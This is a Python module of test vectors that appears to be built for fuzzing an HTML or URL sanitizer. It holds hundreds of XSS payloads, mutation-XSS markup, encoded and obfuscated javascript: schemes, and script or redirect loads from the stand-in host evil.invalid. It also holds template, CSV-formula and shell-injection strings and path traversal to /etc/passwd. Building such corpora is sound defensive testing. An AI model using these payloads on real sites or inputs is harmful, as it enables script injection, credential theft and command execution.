"""Text and addresses that try to become markup or code. Each calls `ran()` when it succeeds; the text ones are one line without control characters."""

import itertools

# What closes the context that the text may stand in …
CLOSERS = [
    "", '">', "'>", '" ', "' ", ">", "-->", "--!>", "]]>", "*/", "</title>", "</style>", "</textarea>", "</noscript>", "</template>",
    "</svg>", "</math>", "</script>", "</pre></code>", "</a></p>", "</select>", "</bdi></mark>", "</xmp>", "</iframe>", "</h1>", "</text></svg>",
]
# … and what would run then.
PAYLOADS = [
    "<script>ran()</script>", "<img src=x onerror=ran()>", "<svg onload=ran()>", "<svg><script>ran()</script></svg>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>", "<a href=javascript:ran() autofocus onfocus=ran()>a</a>",
    "<details open ontoggle=ran()>", "<style>@import 'https://evil.invalid/a.css';*{background:url(https://evil.invalid/b)}</style>",
]
WHOLE = [
    # Forms of tags.
    "<ScRiPt>ran()</sCrIpT>", "<script/x>ran()</script>", "<script src=https://evil.invalid/a.js></script>", "<script>ran()", "<<script>ran()//<</script>",
    "<scr<script>ipt>ran()</scr</script>ipt>", "<img/src=x/onerror=ran()>", "<img src=x onerror=ran&#40;&#41;>", "<img src='x' onerror=\"ran()\"", "<IMG SRC=javascript:ran()>",
    "<img src=x:x onerror\u00a0=ran()>", "<body onload=ran()>", "<input autofocus onfocus=ran()>", "<video><source onerror=ran()></video>", "<audio src=x onerror=ran()>",
    "<object data=javascript:ran()></object>", "<embed src=javascript:ran()>", "<form action=javascript:ran()><button autofocus>a</button></form>",
    "<isindex action=javascript:ran() type=image>", "<meta http-equiv=refresh content='0;url=javascript:ran()'>", "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "<base href=https://evil.invalid/>", "<link rel=stylesheet href=https://evil.invalid/a.css>", "<link rel=prefetch href=https://evil.invalid/>", "<link rel=dns-prefetch href=//evil.invalid>",
    "<div style=background:url(https://evil.invalid/a)>a</div>", "<div style='width:expression(ran())'>a</div>", "<table background=https://evil.invalid/a><tr><td>a</table>",
    "<marquee onstart=ran()>a</marquee>", "<x onclick=ran() contenteditable autofocus>a</x>", "<button popovertarget=p>a</button><p popover id=p onbeforetoggle=ran()>a",
    "<keygen autofocus onfocus=ran()>", "<template><script>ran()</script></template>", "<portal src=javascript:ran()>", "<frameset onload=ran()>",
    # Markup that changes when it is parsed again.
    "<noscript><p title=\"</noscript><img src=x onerror=ran()>\">", "<svg></p><style><a id=\"</style><img src=x onerror=ran()>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=ran()&gt;\">", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran()>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>", "<svg><a><animate attributeName=href values=javascript:ran() /><text x=20 y=20>a</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>ran()</script></svg>#x'>", "<svg><foreignObject><img src=x onerror=ran()></foreignObject></svg>",
    "<math href=javascript:ran()>a</math>", "<listing>&lt;img src=x onerror=ran()&gt;</listing>", "<![CDATA[<img src=x onerror=ran()>]]>", "<?xml-stylesheet href=javascript:ran()?>", "<!DOCTYPE x [<!ENTITY y 'z'>]>&y;",
    "<!--[if IE]><script>ran()</script><![endif]-->", "<!--><img src=x onerror=ran()>-->", "<!--!><script>ran()</script>", "</ img src=x onerror=ran()>", "<a\u2028href=javascript:ran()>a</a>",
    # Entities, once and twice.
    "&lt;script&gt;ran()&lt;/script&gt;", "&amp;lt;script&amp;gt;ran()&amp;lt;/script&amp;gt;", "&#60;script&#62;ran()&#60;/script&#62;", "&#x3c;img src=x onerror=ran()&#x3e;", "&#0000060script>ran()</script>",
    "&lt;img src=x onerror=ran()&gt;", "&LT;script&GT;ran()", "&quot; onfocus=ran() autofocus x=&quot;", "&apos; onfocus=ran() autofocus x=&apos;", "&#34;><script>ran()</script>", "&NewLine;&Tab;&colon;&lpar;&rpar;", "&amp", "&copy", "&notit;", "&#0;&#128;&#xD800;&#x110000;",
    "%3Cscript%3Eran()%3C/script%3E", "%253Cscript%253Eran()", "\\u003cscript\\u003eran()", "\\x3cscript\\x3eran()", "\\3c script\\3e", "+ADw-script+AD4-ran()+ADw-/script+AD4-", "%u003Cscript%u003E", "＜script＞ran()＜/script＞", "ʺ onfocus=ran()", "‹script›ran()",
    # Out of a text of JavaScript or JSON, an address, a rule of style.
    "\";ran();//", "';ran();//", "\\\";ran();//", "\\';ran();//", "`;ran();//", "${ran()}", "'+ran()+'", "\"+ran()+\"", "});ran();({", "\"}];ran();//", "\u2028ran()\u2029", "{\"__proto__\":{\"ran\":1}}", "__proto__", "constructor", "toString", "hasOwnProperty", "</script", "<!--<script>", "<\\/script>", "]]></script>",
    "javascript:ran()", "JaVaScRiPt:ran()", "data:text/html,<script>ran()</script>", "vbscript:ran()", "url(javascript:ran())", "expression(ran())", "//evil.invalid/", "https://evil.invalid/ran", "a{}</style><script>ran()</script>", "@import 'https://evil.invalid/';", "\\0022 onfocus=ran()",
    "\" onmouseover=ran() x=\"", "' onmouseover=ran() x='", "` onmouseover=ran() x=`", "\" style=animation-name:x onanimationstart=ran() x=\"", "x onmouseover=ran()", "\"autofocus/onfocus=ran()//", "\"\"\"><svg/onload=ran()>", "\" dir=\"rtl\" class=\"annotation",
    # Braces of templates, names of Markdown, of YAML, of a shell, of a terminal.
    "{{title}}", "{{{text_html}}}", "{{{head_html}}}", "{{> head}}", "{{#articles}}{{title}}{{/articles}}", "{{^x}}a{{/x}}", "{{! comment}}", "{{=<% %>=}}", "{{.}}", "}}", "{{", "<%= 7*7 %>", "#{7*7}", "{%raw%}", "{name}", "%s%n%d", "{0}", "$1 \\1 $& $`", "{{constructor.constructor('ran()')()}}",
    "[a](javascript:ran())", "![a](https://evil.invalid/a.png)", "<javascript:ran()>", "[a]: javascript:ran()", "`code` **b** _i_ ~~s~~", "# not a heading", "| a | b |", "[Armenia](country:armenia)", "[^1]", "\\[a\\]", "*a* **b** \\* &ast;",
    "!!python/object:ran", "*alias", "&anchor", "? a : b", "- a", "--- #", "$(ran)", "`ran`", "; rm -rf x", "| ran", "../../etc/passwd", "..\\..\\x", "-rf", "--help", "CON", "=cmd|' /C calc'!A0", "@SUM(1)", "+1+1", "-1+1",
    # Ids and names that pages or scripts use.
    "<a id=main name=main>a</a>", "<img name=getElementById>", "<form id=body><input name=children>", "<a id=location href=https://evil.invalid/>a</a>", "<output name=cookie>", "<iframe name=self>", "<p id=legend>a", "<div id=text>a</div>", "<a class=annotation href=https://evil.invalid/>a</a>",
    # Writing that turns or hides, and letters that look alike.
    "\u202eevil\u202c", "\u2066evil\u2069", "\u200fevil\u200e", "zero\u200bwidth\u200cnon\u200djoiner\ufeff", "раураl", "e\u0301\u0302\u0303\u0304\u0305", "ﷺ﷽", "👩\u200d👩\u200d👧", "\U000e0041tag", "\u00adsoft\u00adhyphen", "Ω\u1160\u3164", "\u061cx", "ﬀ ſ İ ı ß",
]


def texts():
    """All text vectors, each once."""
    found = [closer + payload for closer, payload in itertools.product(CLOSERS, PAYLOADS[:3])]
    found += [CLOSERS[(index * 5 + 1) % len(CLOSERS)] + payload for index, payload in enumerate(PAYLOADS[3:] * 3)]
    return list(dict.fromkeys(found + WHOLE))


SCHEMES = ["javascript:ran()", "JAVASCRIPT:ran()", "jAvAsCrIpT:ran()", "data:text/html,<script>ran()</script>", "data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=ran()>",
           "data:,x", "vbscript:ran()", "livescript:ran()", "mocha:ran()", "blob:https://evil.invalid/1", "filesystem:https://evil.invalid/x", "view-source:https://evil.invalid/", "intent://evil.invalid#Intent;end",
           "file:///etc/passwd", "file:c:/x", "ftp://evil.invalid/", "ws://evil.invalid/", "about:blank", "chrome://settings", "jar:https://evil.invalid!/x", "feed:javascript:ran()", "tel:1", "sms:1", "urn:x", "cid:x", "mid:x",
           "ms-settings:x", "steam://x", "magnet:?xt=x", "x-scheme+y.z:1", "resource://x", "ms-its:x", "mk:@MSITStore:x", "res://x", "shell:x", "search-ms:x", "jscript:ran()", "wyciwyg://x"]
HOSTS = ["//evil.invalid/x", "///evil.invalid/x", "////evil.invalid", "\\\\evil.invalid\\x", "/\\evil.invalid/x", "\\/evil.invalid/x", "/\\/evil.invalid", "/etc/passwd", "http:evil.invalid", "https:/evil.invalid", "https:\\\\evil.invalid",
         "http:", "https://", "https:///evil.invalid", "mailto:", ".//evil.invalid/../..//evil.invalid", "../../../../etc/passwd", "..\\..\\x", "%2e%2e/%2e%2e/x", "..%2f..%2fx", "%2f%2fevil.invalid", "%5c%5cevil.invalid", "./javascript:ran()",
         "x/../javascript:ran()", "?javascript:ran()", "#javascript:ran()", ";javascript:ran()", "%6aavascript:ran()", "javascript%3aran()", "javascript%3Aran()", "%00javascript:ran()", "https://evil.invalid@x/", "https://x\\@evil.invalid"]
MUTATED = ["java&Tab;script:ran()", "java&NewLine;script:ran()", "java&#9;script:ran()", "java&#10;script:ran()", "java&#13;script:ran()", "java&#x0A;script:ran()", "&#x6A;avascript:ran()", "&#106avascript:ran()", "&#0000106&#0000097vascript:ran()", "javascript&colon;ran()",
           "javascript&#58;ran()", "javascript&#x3A;ran()", "&#1;javascript:ran()", "&#14;javascript:ran()", "&#32;javascript:ran()", "&nbsp;javascript:ran()", "&#xFEFF;javascript:ran()", "&#x3000;javascript:ran()", "&#127;javascript:ran()", "&#x80;javascript:ran()", "&ZeroWidthSpace;javascript:ran()",
           "java\\script:ran()", "\\javascript:ran()", "javascript\\:ran()", "java%0ascript:ran()", "java%09script:ran()", "%0ajavascript:ran()", "jav\tascript:ran()", "\x01javascript:ran()", "java\x00script:ran()", "javascript:ran()//https://x", "javascript://x/%0aran()", "javascript:https://x/;ran()", "&sol;&sol;evil.invalid", "&bsol;&bsol;evil.invalid",
           "&#47;&#47;evil.invalid", "/&Tab;/evil.invalid", "/&NewLine;/evil.invalid", "&Tab;//evil.invalid", "ｊavascript:ran()", "java\u200bscript:ran()", "java\u00adscript:ran()", "ja\u017fvascript:ran()", "javaſcript:ran()", "data&colon;text/html,x", "&#100;ata:text/html,<script>ran()</script>", "x\" onfocus=\"ran()", "x' onfocus='ran()", "x`onfocus=`ran()", "x&quot; onfocus=&quot;ran()", "x><script>ran()</script>", "https://x/\" onfocus=\"ran()", "https://x/'onfocus='ran()", "https://x/&quot;onfocus=ran()", "https://x/><script>ran()</script>", "mailto:a@b?body=\"onfocus=ran()"]


def addresses():
    return list(dict.fromkeys(SCHEMES + HOSTS + MUTATED))
